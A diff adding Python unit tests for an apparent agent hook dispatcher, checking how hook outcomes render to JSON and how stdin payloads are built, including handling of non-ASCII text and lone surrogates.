+    assert render(PERM, v) == AgentAnswer(2, "", "no\n")
+
+
+def test_render_additional_context_and_system_message() -> None:
+    v = fold(PROMPT, [HookOutcome(hook="a", additional_context="ctx", system_message="msg", suppress_output=True)])
+    assert answer_json(render(PROMPT, v)) == {
+        "suppressOutput": True, "systemMessage": "msg",
+        "hookSpecificOutput": {"hookEventName": "UserPromptSubmit", "additionalContext": "ctx"},
+    }
+
+
+def test_render_updated_tool_output() -> None:
+    v = fold(POST, [HookOutcome(hook="a", updated_output={"stdout": "[redacted]"})])
+    assert answer_json(render(POST, v)) == {"hookSpecificOutput": {
+        "hookEventName": "PostToolUse", "updatedToolOutput": {"stdout": "[redacted]"},
+    }}
+
+
+def test_render_updated_tool_output_null() -> None:
+    v = fold(POST, [parse("PostToolUse", specific("PostToolUse", updatedToolOutput=None))])
+    assert answer_json(render(POST, v)) == {"hookSpecificOutput": {
+        "hookEventName": "PostToolUse", "updatedToolOutput": None,
+    }}
+
+
+def test_render_hook_errors_reach_the_user() -> None:
+    v = fold(STOP, [HookOutcome(hook="x", status="error", error="timed out after 60 s")])
+    assert "timed out after 60 s" in answer_json(render(STOP, v))["systemMessage"]
+
+
+def test_render_from_raw_hook_output_end_to_end() -> None:
+    outcomes = [
+        parse("PreToolUse", specific("PreToolUse", permissionDecision="ask", permissionDecisionReason="check")),
+        parse("PreToolUse", b"chatter that is not context"),
+        parse("PreToolUse", code=1, stderr=b"oops"),
+    ]
+    out = answer_json(render(PRE, fold(PRE, outcomes)))
+    assert out["hookSpecificOutput"]["permissionDecision"] == "ask"
+    assert "oops" in out["systemMessage"]
+
+
+def test_render_keeps_non_ascii_readable() -> None:
+    v = Verdict(event="Stop", system_message="héllo ✓")
+    assert render(STOP, v).stdout == '{"systemMessage": "héllo ✓"}\n'
+
+
+def test_render_output_can_always_be_written_as_utf8() -> None:
+    # Regression: a hook answering {"systemMessage": "\ud800"} (a lone surrogate,
+    # valid JSON escape) made render() return text that could not be encoded,
+    # and writing it to stdout crashed dispatch.
+    o = parse("PreToolUse", b'{"systemMessage": "x\\ud800", "hookSpecificOutput": {"updatedInput": {"c": "\\udfff"}}}')
+    answer = render(PRE, fold(PRE, [o]))
+    answer.stdout.encode("utf-8")
+    out = answer_json(answer)
+    assert out["systemMessage"] == "x\ud800"
+    assert out["hookSpecificOutput"]["updatedInput"] == {"c": "\udfff"}
+
+
+# -- build_stdin ------------------------------------------------------------------------
+
+
+def test_build_stdin_passes_the_payload_through() -> None:
+    payload = {
+        "session_id": "s1", "transcript_path": "/t.jsonl", "cwd": "/p", "permission_mode": "default",
+        "tool_name": "Bash", "tool_input": {"command": "ls"}, "unknown_future_field": [1, {"a": None}],
+    }
+    assert json.loads(build_stdin(PRE, payload)) == {**payload, "hook_event_name": "PreToolUse"}
+
+
+def test_build_stdin_keeps_stop_hook_active() -> None:
+    data = json.loads(build_stdin(STOP, {"session_id": "s", "stop_hook_active": True}))
+    assert data == {"session_id": "s", "stop_hook_active": True, "hook_event_name": "Stop"}
+
+
+def test_build_stdin_sets_hook_event_name_even_when_the_payload_disagrees() -> None:
+    assert json.loads(build_stdin(STOP, {"hook_event_name": "PreToolUse"}))["hook_event_name"] == "Stop"
+
+
+def test_build_stdin_is_utf8_and_does_not_touch_the_input() -> None:
+    payload = {"prompt": "héllo \x1b[31m"}
+    raw = build_stdin(PROMPT, payload)
+    assert "héllo".encode() in raw
+    assert json.loads(raw)["prompt"] == "héllo \x1b[31m"
+    assert payload == {"prompt": "héllo \x1b[31m"}
+
+
+def test_build_stdin_survives_a_lone_surrogate_in_the_payload() -> None:
+    # Regression: a tool input carrying "\ud800" (JSON from the agent allows it)
+    # raised UnicodeEncodeError, crashing dispatch before any guard ran.
+    raw = build_stdin(PRE, {"tool_name": "Bash", "tool_input": {"command": "echo \ud800"}})
+    assert json.loads(raw)["tool_input"]["command"] == "echo \ud800"
